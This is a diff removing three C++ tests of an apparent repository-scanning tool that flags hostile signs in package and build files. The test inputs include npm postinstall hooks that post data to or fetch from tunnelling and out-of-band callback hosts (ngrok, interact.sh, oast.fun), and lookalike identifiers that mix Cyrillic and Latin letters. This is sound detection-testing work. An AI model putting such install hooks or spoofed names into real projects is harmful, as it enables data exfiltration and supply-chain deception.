@@ -203,34 +203,6 @@ TEST(PlaybookStrangers, OnlyAWorkflowThatTakesACommitIsToldOf) {
   EXPECT_EQ(severity("        run: npx lint --to ${{ github.event.pull_request.head.sha }}"), Severity::kInfo);
 }
 
-TEST(PlaybookStrangers, ThatADependencyIsCalledForATunnelIsNoHostility) {
-  EXPECT_EQ(Verdict({{"package.json", "{\n  \"devDependencies\": {\n    \"zuul-ngrok\": \"^4.0.0\",\n    \"ngrok\": \"1\"\n  }\n}\n"}}), "nothing found that runs by itself");
-  EXPECT_NE(Verdict({{"Cargo.toml", "[dependencies]\nngrok = \"0.13\"\n"}, {"requirements.txt", "ngrok==1\n"}, {"Gemfile", "gem 'ngrok'\n"}, {"Makefile", "all:\n\t./interact.sh\n"}}), "hostile signs");
-  for (const char* runs : {"curl -d x https://a.ngrok.io", "ngrok http 80", "node -e \\\"require('ngrok').connect(80)\\\"", "curl b.interact.sh", "curl c.oast.fun"})
-    EXPECT_EQ(Verdict({{"package.json", std::string("{\n  \"scripts\": {\n    \"postinstall\": \"") + runs + "\"\n  }\n}\n"}}), "hostile signs") << runs;
-}
-
-TEST(PlaybookStrangers, AnAlphabetsRangeIsNoWord) {
-  for (const char* line : {"const re = /[A-Za-zА-Яа-яёЁ_]+/;", "x = '[a-zA-Zа-яА-я]+[*]?|[\\wа-яА-Я]';", "'cos exp base64значение записатьxml comобъект'", "re = /[a-zα-ωΑ-Ω]/"})
-    EXPECT_NE(Verdict({{"a.js", std::string(line) + "\n"}}), "hostile signs") << line;
-  for (const char* line : {"function vеrify() {}", "let x = ['раypal', 'я-я'];", "/[а-я]/; usеr()", "get_vаlue2()", "node-fеtch"})
-    EXPECT_EQ(Verdict({{"a.js", std::string(line) + "\n"}}), "hostile signs") << line;
-}
-
-TEST(PlaybookStrangers, BuildFilesThatAreProgramsRun) {
-  const struct {
-    const char *path, *line;
-  } cases[] = {{"Gemfile", "gem 'rake'"}, {"gems.rb", "source 'https://gems.example'"}, {"x.gemspec", "Gem::Specification.new do |s|"}, {"Rakefile", "task :test do"}, {"build.gradle", "apply plugin: 'java'"},
-               {"settings.gradle.kts", "rootProject.name = \"x\""}, {"pom.xml", "      <plugin>"}, {"build.xml", "<target name=\"jar\">"}, {"build.sbt", "name := \"x\""}, {"SConstruct", "env = Environment()"},
-               {"wscript", "def configure(ctx):"}, {"build.zig", "pub fn build(b: *std.Build) void {"}, {"mix.exs", "  use Mix.Project"}, {"Package.swift", "let package = Package("}};
-  for (const auto& one : cases) {
-    const Report report = PlaybookRepo(Files{{one.path, std::string(one.line) + "\n"}}).Run("triage", "?", "", 10);
-    EXPECT_EQ(report.data.value("verdict", ""), "runs on install or build") << one.path;
-    ASSERT_EQ(report.findings.size(), 1u) << one.path;
-    EXPECT_EQ(report.findings[0].severity, Severity::kInfo) << one.path;
-  }
-}
-
 TEST(PlaybookStrangers, MessagesOfALanguageMixAlphabets) {
   EXPECT_NE(Verdict({{"lib/ru/messages.json", "\"a\": \"Tипы\"\n"}}), "hostile signs");
   EXPECT_NE(Verdict({{"i18n/app.ru-RU.json", "\"a\": \"Tипы\"\n"}}), "hostile signs");
